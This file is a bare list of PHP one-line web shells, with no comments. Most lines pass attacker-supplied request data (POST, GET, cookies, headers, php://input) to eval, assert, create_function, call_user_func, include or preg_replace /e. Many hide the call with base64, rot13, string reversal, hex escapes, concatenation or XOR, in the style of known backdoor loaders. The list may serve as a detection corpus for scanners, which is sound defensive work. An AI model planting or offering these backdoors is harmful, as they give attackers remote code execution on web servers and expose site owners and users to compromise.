<?php EVAL($_POST['pass']); ?>
<?php Eval ( $_GET [ 'c' ] ) ; ?>
<?php eval(/* run */$_REQUEST['x']); ?>
<?php @eval($_COOKIE["k"]); ?>
<?php eVaL(   $_SERVER['HTTP_X_CODE']   ); ?>
<?php eval(@$_POST['z0']);?>
<?PHP @Eval(StripSlashes($_REQUEST['cmd'])); ?>
<?php eval(base64_decode( $_POST['b'] )); ?>
<?php eval(BASE64_DECODE(@$_COOKIE['c'])); ?>
<?php eval(gzinflate(base64_decode('80jNycnXUQjPL8pJUQQA'))); ?>
<?php eval(gzuncompress(base64_decode('eJzLSM3JyVcozy/KSVEEAB0JBF4='))); ?>
<?php eval(str_rot13('cevag("uryyb");')); ?>
<?php eval (strrev(';)"olleh"(tnirp')); ?>
<?php eval(file_get_contents( "php://input" )); ?>
<?php ASSERT($_POST['a']); ?>
<?php assert ( @$_GET['a'] ) ; ?>
<?php assert(base64_decode($_REQUEST['q'])); ?>
<?php $f = create_function( '' , $_POST['body'] ); $f(); ?>
<?php $f = Create_Function("", base64_decode($_COOKIE['z'])); $f(); ?>
<?php call_user_func( $_GET['f'], $_GET['a'] ); ?>
<?php Call_User_Func('assert', $_POST['x']); ?>
<?php array_map( 'assert' , (array) $_REQUEST['p'] ); ?>
<?php Array_Map($_POST['f'], array($_POST['a'])); ?>
<?php preg_replace( "/.*/e" , $_POST['x'], ""); ?>
<?php $_GET['f'] ( $_POST['a'] ); ?>
<?php $_REQUEST["f"](@$_REQUEST["a"]); ?>
<?php ${'_P'.'OST'}['x'](${"_PO"."ST"}['y']); ?>
<?php $a = "as" . "sert"; $a($_POST['x']); ?>
<?php $c = 'ass'.'ert'; $c($_GET['x']); ?>
<?php $f = str_rot13("nffreg"); $f($_POST['x']); ?>
<?php $f = strrev( 'tressa' ); $f($_POST['x']); ?>
<?php $f = base64_decode("YXNzZXJ0"); $f($_POST['x']); ?>
<?php $d = strrev("edoced_46esab"); eval($d($_POST['z'])); ?>
<?php $k="\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65"; @eval($k("ZWNobyAxOw==")); ?>
<?php $s=chr(101).chr(118).chr(97).chr(108); ?>
<?php register_shutdown_function($_REQUEST['f'], $_REQUEST['a']); ?>
<?php ob_start("assert"); echo $_REQUEST['x']; ob_end_flush(); ?>
<?php forward_static_call_array($_POST['f'], array($_POST['a'])); ?>
<?php @include($_POST['inc']); ?>
<?php include('php://input'); ?>
<?php preg_replace("/x/E", $_POST['c'], "x"); ?>
<?php echo gzuncompress(base64_decode('eJwrzy/KSQEABhwCLg==')); eval("?>".gzuncompress(base64_decode('eJyzsS/IKFAoLUovyS/JLM7Mz1MISS0u0VEoSS0u0VEoLU4FAJ04CjU='))); ?>
<?php $p=file_get_contents('php://input'); $p=openssl_decrypt($p,'AES128',$k); class C{function __invoke($x){eval($x."");}} call_user_func(new C(),$p); ?>
<?php for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];} ?>
<?php $x = $_POST; $pass='p'; $payloadName='payload'; eval($payload); ?>
<script language="PHP"> eval($_POST['x']); </script>
<?= EVAL($_GET['q']) ?>
